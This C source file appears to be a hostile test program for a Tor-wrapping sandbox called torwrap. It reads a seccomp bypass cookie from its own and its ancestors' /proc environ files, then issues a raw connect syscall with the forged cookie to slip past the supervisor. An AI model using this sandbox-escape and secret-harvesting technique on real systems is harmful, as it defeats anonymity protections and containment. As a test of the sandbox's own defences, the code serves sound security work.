/* hostile_cookie.c: class 7 of issue 25: the seccomp cookie, forged.
 *
 * Under torwrap the kernel's filter lets a connect through, without asking the supervisor, when its 4th argument
 * register (one connect does not use) holds the process tree's cookie: that is how the library's own, already
 * routed, calls pass (common/gate.c, common/filter.c). The cookie travels in the environment
 * (TORWRAP_SECCOMP_COOKIE). This program looks for it in its environment, in /proc/self/environ (the environment
 * it was started with, even if something unset it since) and in its ancestors' /proc/PID/environ, then makes a
 * raw connect with it in the 4th register.
 *
 *   hostile_cookie HOST PORT
 */
#include <sys/syscall.h>

#include "hostile.h"

#define COOKIE_ENV "TORWRAP_SECCOMP_COOKIE"

static pid_t parent_of(pid_t pid)
{
	char path[64], buf[512];
	snprintf(path, sizeof(path), "/proc/%d/stat", (int)pid);
	FILE *f = fopen(path, "r");
	if (!f)
		return 0;
	size_t n = fread(buf, 1, sizeof(buf) - 1, f);
	fclose(f);
	buf[n] = '\0';
	char *p = strrchr(buf, ')');
	int ppid = 0;
	return p && sscanf(p + 1, " %*c %d", &ppid) == 1 ? ppid : 0;
}

/* COOKIE_ENV's value in the NUL-separated environment block at PATH, parsed; 0 if none. */
static uint64_t cookie_in(const char *path)
{
	static char buf[1 << 16];
	FILE *f = fopen(path, "r");
	if (!f)
		return 0;
	size_t n = fread(buf, 1, sizeof(buf) - 1, f);
	fclose(f);
	buf[n] = '\0';
	for (size_t i = 0; i < n; i += strlen(buf + i) + 1)
		if (strncmp(buf + i, COOKIE_ENV "=", sizeof(COOKIE_ENV)) == 0)
			return strtoull(buf + i + sizeof(COOKIE_ENV), NULL, 16);
	return 0;
}

int main(int argc, char **argv)
{
	if (argc != 3) {
		fprintf(stderr, "usage: hostile_cookie HOST PORT\n");
		return 2;
	}
	hostile_start(argc, argv);
	struct sockaddr_in to;
	hostile_addr(argv[1], argv[2], &to);

	uint64_t cookie = 0;
	const char *env = getenv(COOKIE_ENV);
	if (env && *env) {
		cookie = strtoull(env, NULL, 16);
		printf("cookie: in my environment\n");
	}
	if (!cookie && (cookie = cookie_in("/proc/self/environ")) != 0)
		printf("cookie: in /proc/self/environ\n");
	for (pid_t p = getppid(); !cookie && p > 1; p = parent_of(p)) {
		char path[64];
		snprintf(path, sizeof(path), "/proc/%d/environ", (int)p);
		if ((cookie = cookie_in(path)) != 0)
			printf("cookie: in %s\n", path);
	}
	if (!cookie)
		printf("cookie: none found\n");

	int fd = (int)step_libc("socket", socket(AF_INET, SOCK_STREAM, 0));
	char what[80];
	snprintf(what, sizeof(what), "raw connect(%s:%s) with the cookie in the 4th register", argv[1], argv[2]);
	if (fd >= 0 && step_raw(what, raw_syscall6(SYS_connect, fd, (long)&to, sizeof(to), (long)cookie, 0, 0)) == 0)
		hostile_http(fd);
	return 0;
}
